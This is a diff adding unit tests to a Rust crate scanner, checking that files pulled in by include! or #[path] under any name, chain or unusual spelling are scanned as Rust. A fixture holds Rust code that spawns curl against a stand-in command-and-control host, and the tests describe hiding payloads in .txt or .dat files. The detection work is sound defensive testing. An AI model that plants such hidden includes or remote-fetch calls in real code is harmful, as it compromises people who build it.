@@ -3,9 +3,20 @@ library, or code never built for a dependent."""
 
 from __future__ import annotations
 
+import time
+
 import pytest
 
-from mirror.scan.capabilities import CapabilityReport, scan_crate
+from mirror.errors import ArchiveError
+from mirror.scan.archive import ArchiveLimits
+from mirror.scan.capabilities import (
+    Capability,
+    CapabilityReport,
+    Evidence,
+    Finding,
+    scan_crate,
+)
+from mirror.scan.crate_scan import MAX_PULL_PASSES
 from mirror.scan.findings import context_of
 from mirror.scan.report import Context
 from tests.unit.scan.test_capabilities import make_crate
@@ -13,8 +24,22 @@ from tests.unit.scan.test_capabilities import make_crate
 C = Context
 
 
-def scan(files: dict[str, str | bytes], manifest: str = "") -> CapabilityReport:
-    return scan_crate(make_crate(files, manifest=manifest))
+DEFAULT_LIMITS = ArchiveLimits()
+# Every `.rs` file read in a second pass over the archive instead of kept from the first.
+NOTHING_KEPT = ArchiveLimits(max_kept_bytes=1)
+
+
+def scan(
+    files: dict[str, str | bytes], manifest: str = "", limits: ArchiveLimits = DEFAULT_LIMITS
+) -> CapabilityReport:
+    return scan_crate(make_crate(files, manifest=manifest), limits)
+
+
+CURL = 'pub fn run() { std::process::Command::new("curl").arg("https://c2.invalid/x"); }\n'
+
+
+def process_files(report: CapabilityReport) -> set[str]:
+    return {e.file for e in report.capabilities.get(Capability.PROCESS, ())}
 
 
 def test_implicit_build_script_library_and_tests() -> None:
@@ -110,3 +135,175 @@ def test_paths_leaving_the_crate_pull_in_nothing() -> None:
         {"build.rs": 'include!("../../etc/x.rs");\nmod a;\nfn main() {}\n', "src/lib.rs": ""}
     )
     assert report.pulled_in == {}
+
+
+@pytest.mark.parametrize("limits", [DEFAULT_LIMITS, NOTHING_KEPT], ids=["kept", "read-again"])
+def test_files_pulled_in_under_any_name_are_read_as_rust(limits: ArchiveLimits) -> None:
+    """`include!("payload.txt")` and `#[path = "x.dat"] mod x;` compile those files as Rust:
+    they are scanned as Rust, in the context of what pulls them in. (Only `.rs` files were
+    read before: code hidden in a `.txt` file was never seen.)"""
+    report = scan(
+        {
+            "build.rs": '#[path = "tools/gen.dat"]\nmod gen;\nfn main() {}\n',
+            "tools/gen.dat": 'pub const U: &str = "https://build.invalid/p";\n',
+            "src/lib.rs": 'include!("../data/payload.txt");\n',
+            "data/payload.txt": CURL,
+        },
+        limits=limits,
+    )
+    process = report.capabilities[Capability.PROCESS]
+    assert process == (Evidence("data/payload.txt", 1, "std::process::Command::new"),)
+    urls = {(context_of(report, e.file), e.file) for e in report.findings[Finding.URL]}
+    assert urls == {(C.BUILD, "tools/gen.dat"), (C.RUNTIME, "data/payload.txt")}
+    assert report.pulled_in == {"tools/gen.dat": C.BUILD}
+
+
+@pytest.mark.parametrize("limits", [DEFAULT_LIMITS, NOTHING_KEPT], ids=["kept", "read-again"])
+def test_chains_of_pulled_in_files_are_followed(limits: ArchiveLimits) -> None:
+    """A pulled-in `.txt` that pulls in another file in turn (paths relative to the file
+    holding the `include!`, as rustc resolves them): every file of the chain is read, in the
+    context of the code at its head, also when the chain runs through tests/."""
+    report = scan(
+        {
+            "build.rs": 'include!("gen/a.in");\nfn main() {}\n',
+            "gen/a.in": '#[path = "deeper/b.dat"]\nmod b;\n',
+            "gen/deeper/b.dat": 'include!("../../c.txt");\n',
+            "c.txt": 'const U: &str = "https://build.invalid/c";\n',
+            "src/lib.rs": 'include!("../tests/data/one.txt");\n',
+            "tests/data/one.txt": 'include!("two.txt");\n',
+            "tests/data/two.txt": CURL,
+        },
+        limits=limits,
+    )
+    assert report.pulled_in == {
+        "gen/a.in": C.BUILD,
+        "gen/deeper/b.dat": C.BUILD,
+        "c.txt": C.BUILD,
+        "tests/data/one.txt": C.RUNTIME,
+        "tests/data/two.txt": C.RUNTIME,
+    }
+    urls = {(context_of(report, e.file), e.file) for e in report.findings[Finding.URL]}
+    assert urls == {(C.BUILD, "c.txt"), (C.RUNTIME, "tests/data/two.txt")}
+    assert process_files(report) == {"tests/data/two.txt"}
+
+
+def test_files_pulling_each_other_in_are_read_once() -> None:
+    """`a.txt` includes `b.txt`, which includes `a.txt` (rustc would recurse until its own
+    limit): the scan reads each once and ends."""
+    report = scan(
+        {
+            "src/lib.rs": 'include!("a.txt");\n',
+            "src/a.txt": 'include!("b.txt");\n' + CURL,
+            "src/b.txt": 'include!("a.txt");\n' + CURL.replace("run", "go"),
+        }
+    )
+    evidence = report.capabilities[Capability.PROCESS]
+    assert sorted({(e.file, e.line) for e in evidence}) == [("src/a.txt", 2), ("src/b.txt", 2)]
+
+
+@pytest.mark.parametrize("head", ["src/lib.rs", "build.rs"])
+def test_a_chain_longer_than_the_limit_is_refused(head: str) -> None:
+    """Each level of a chain of pulled-in files costs one more inflation of the whole
+    archive: a chain deeper than the limit is refused (fail closed), not read in part."""
+
+    where = "src/" if head.startswith("src/") else ""
+
+    def chain(files_in_chain: int) -> dict[str, str | bytes]:
+        files: dict[str, str | bytes] = {head: 'include!("p1.txt");\nfn main() {}\n'}
+        for i in range(1, files_in_chain):
+            files[f"{where}p{i}.txt"] = f'include!("p{i + 1}.txt");\n'
+        files[f"{where}p{files_in_chain}.txt"] = CURL
+        return files
+
+    # One pass per file of the chain (p1 .. pN): each is found only once the one before is read.
+    deepest = scan(chain(MAX_PULL_PASSES))
+    assert {e.file for e in deepest.findings[Finding.URL]} == {f"{where}p{MAX_PULL_PASSES}.txt"}
+    with pytest.raises(ArchiveError, match="levels deep"):
+        scan(chain(MAX_PULL_PASSES + 1))
+
+
+def test_files_not_pulled_in_are_not_read_as_rust() -> None:
+    """Only the files something pulls in are read: another `.txt` holding the same code is
+    data (READMEs, fixtures) and is not scanned."""
+    report = scan(
+        {
+            "src/lib.rs": 'include!("pulled.txt");\n',
+            "src/pulled.txt": CURL,
+            "src/unused.txt": CURL,
+            "tests/data/fixture.dat": CURL,
+        }
+    )
+    assert process_files(report) == {"src/pulled.txt"}
+
+
+def test_pulled_paths_leaving_the_crate_still_pull_in_nothing() -> None:
+    """`include!` of a path leaving the crate root names a file outside this archive (even if
+    the rest of the path matches a file inside it): nothing is pulled in from it."""
+    report = scan(
+        {
+            "build.rs": 'include!("../elsewhere/gen/out.txt");\nfn main() {}\n',
+            "gen/out.txt": CURL,
+            "src/lib.rs": 'include!("../../x/in.txt");\ninclude!("in.txt");\n',
+            "src/in.txt": CURL,
+            "x/in.txt": CURL,
+        }
+    )
+    assert report.pulled_in == {}
+    assert process_files(report) == {"src/in.txt"}
+
+
+@pytest.mark.parametrize(
+    "pull",
+    [
+        'include ! ("p.txt");',
+        'include!\n    ("p.txt");',
+        'include!{"p.txt"}',
+        'include!["p.txt"];',
+        'include!(r"p.txt");',
+        'include!(r#"p.txt"#);',
+        'include!(concat!(env!("CARGO_MANIFEST_DIR"), "/src/p.txt"));',
+        'include!(concat! { env! ["CARGO_MANIFEST_DIR"], "/src/p.txt" });',
+        '#[path = r"p.txt"]\nmod p;',
+        '#[path=\n"p.txt"]\nmod p;',
+        '#[cfg_attr(all(), path = "p.txt")]\nmod p;',
+        '#[cfg_attr(\n    all(),\n    path = "p.txt"\n)]\nmod p;',
+        pytest.param(
+            f"#[cfg_attr(any({', '.join(f'feature = {chr(34)}f{i}{chr(34)}' for i in range(99))}),"
+            ' path = "p.txt")]\n#[allow(unused)]\n/// docs\npub(crate) mod p;',
+            id="long-cfg_attr",
+        ),
+    ],
+)
+def test_every_spelling_rustc_accepts_pulls_the_file_in(pull: str) -> None:
+    """Whitespace around `!`, any delimiter, raw strings and `cfg_attr(.., path = ..)` all
+    compile (checked with rustc): each spelling of the pull is followed, or the payload would
+    hide again behind an unusual one."""
+    report = scan({"src/lib.rs": pull + "\n", "src/p.txt": CURL})
+    assert process_files(report) == {"src/p.txt"}
+
+
+def test_a_path_not_on_a_module_pulls_in_nothing() -> None:
+    """`path = ".."` outside an attribute of a `mod x;` (a variable, an attribute of another
+    item) is not a pull."""
+    report = scan(
+        {
+            "src/lib.rs": (
+                'fn f() { let path = "p.txt"; }\n#[path = "q.txt"]\nfn g() {}\nmod r;\n'
+                '#[path = "s.txt"] struct S; mod t;\n'
+            ),
+            "src/p.txt": CURL,
+            "src/q.txt": CURL,
+            "src/s.txt": CURL,
+        }
+    )
+    assert process_files(report) == set()
+
+
+def test_pulls_are_found_in_time_linear_in_the_file() -> None:
+    """A file of thousands of `#[path = ..]` with no `mod` after them: each attribute was
+    followed to the next `;` anew (28 s of CPU for these 130 KB, a scan held for minutes by
+    a larger file)."""
+    source = '#[path = "x"]' * 10_000 + "\n"
+    started = time.process_time()
+    scan({"src/lib.rs": source, "src/x": CURL})
+    assert time.process_time() - started < 2.0
